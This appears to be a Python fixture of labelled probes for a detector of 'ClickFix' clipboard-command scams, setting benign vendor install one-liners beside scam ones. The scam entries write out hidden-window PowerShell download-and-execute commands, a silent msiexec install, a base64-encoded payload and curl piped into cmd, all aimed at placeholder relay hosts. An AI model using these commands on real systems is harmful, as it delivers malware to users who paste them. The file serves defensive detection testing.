# Targeted probes for clickfix45 (a lone button copying a hidden-window download or a program saved and started).
from gen_a import P
F = 't-clickfix45'
# honest: vendors' lone buttons
P('t45c_en_h_rmm', 'honest', 'https://app.fleetdesk-example.com/onboarding', F, 'en', 'Add a device',
  "Install", "powershell -w hidden -c \"iwr https://agents.fleetdesk-cdn-example.net/win/latest -useb | iex\"")
P('t45c_en_h_dlstart', 'honest', 'https://www.photoedit-example.com/download', F, 'en', 'Download PhotoEdit',
  "Copy", "cmd /c curl -sLo %TEMP%\\PhotoEditSetup.exe https://dl.photoedit-example.net/latest && start %TEMP%\\PhotoEditSetup.exe")
P('t45c_en_h_tailscale', 'honest', 'https://login.tailscale.com/admin/machines/new-linux', F, 'en', 'Add Linux device',
  "Copy", "curl -fsSL https://tailscale.com/install.sh | sh")
P('t45c_de_h_portal', 'honest', 'https://kundenportal.stadtwerke-example.de/hilfe', F, 'de', 'Fernwartung',
  "Weiter", "powershell -c \"iwr https://support.stadtwerke-example.de/fernwartung.ps1 -useb | iex\"")
# scams of the same shape the change may still miss
P('t45c_de_s_named', 'scam', 'https://rechnung-0220.top/', F, 'de', 'Rechnung',
  "Weiter", "powershell -w hidden -c \"iex(iwr https://relay-0220.top/update.ps1)\"")
P('t45c_en_s_twowords', 'scam', 'https://doc-0221.top/', F, 'en', 'Invoice',
  "Continue reading", "powershell -w hidden -c \"iex(irm https://relay-0221.top/d)\"")
P('t45c_fr_s_msi', 'scam', 'https://facture-0222.top/', F, 'fr', 'Facture',
  "Continuer", "msiexec /q /i https://relay-0222.top/f")
P('t45c_en_s_b64', 'scam', 'https://view-0223.top/', F, 'en', 'Document',
  "Open", "powershell -nop -w hidden -e SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAHIAZQBsAGEAeQAtADAAMgAyADMALgB0AG8AcAAvAHgAKQA=")
P('t45c_ja_s_curlcmd', 'scam', 'https://seikyu-0224.top/', F, 'ja', '請求書',
  "次へ", "cmd /c curl -s https://relay-0224.top/x | cmd")
P('t45c_en_s_lone_update', 'scam', 'https://upd-0225.top/', F, 'en', 'Update',
  "Update", "conhost --headless powershell -w h -c \"iwr https://relay-0225.top/u -useb|iex\"")
